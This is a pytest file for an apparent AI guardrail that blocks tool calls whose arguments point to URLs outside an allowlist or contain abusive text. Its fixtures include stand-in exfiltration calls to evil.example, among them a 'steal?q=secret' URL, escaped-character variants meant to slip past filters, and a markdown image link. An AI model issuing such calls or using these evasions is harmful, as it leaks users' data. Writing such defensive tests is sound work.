"""Tool calls pass the output rails like text: by name, by arguments as sent, and by decoded arguments."""

from __future__ import annotations

import json

import pytest

from webapp.guard.toolcalls import check_tool_call, tool_call_texts


def test_arguments_are_read_as_sent_and_decoded() -> None:
    texts = tool_call_texts("fetch", '{"url": "https:\\/\\/evil\\u002eexample\\/x", "n": [1, {"k": "v"}]}')
    assert "https://evil.example/x" in texts and "k" in texts and "v" in texts


@pytest.mark.parametrize(
    "arguments",
    [
        json.dumps({"url": "https://evil.example/steal?q=secret"}),
        '{"url": "https:\\/\\/evil.example\\/x"}',  # JSON-escaped slashes
        '{"url": "https://evil\\u002eexample/x"}',  # a JSON unicode escape
        json.dumps({"markdown": "![x](https://evil.example/p.png)"}),
        json.dumps({"nested": {"list": ["fine", "see evil.example/page"]}}),
        '{"url": "https://evil.example/',  # never finished
    ],
)
async def test_a_url_off_the_allowlist_in_the_arguments_blocks(guard, arguments: str) -> None:
    outcomes = await check_tool_call(guard, "fetch_page", arguments)
    assert outcomes[-1].blocked and outcomes[-1].rail == "url_allowlist" and outcomes[-1].stage == "output"


async def test_a_url_in_the_name_blocks_and_allowlisted_arguments_pass(guard) -> None:
    assert (await check_tool_call(guard, "evil.example", "{}"))[-1].blocked
    fine = await check_tool_call(
        guard, "fetch_page", json.dumps({"url": "https://en.wikipedia.org/wiki/Oslo"})
    )
    assert fine and not any(o.blocked for o in fine)


async def test_abusive_arguments_block(guard) -> None:
    outcomes = await check_tool_call(guard, "send_message", json.dumps({"text": "you are a stupid idiot"}))
    assert outcomes[-1].blocked and outcomes[-1].rail == "moderation"
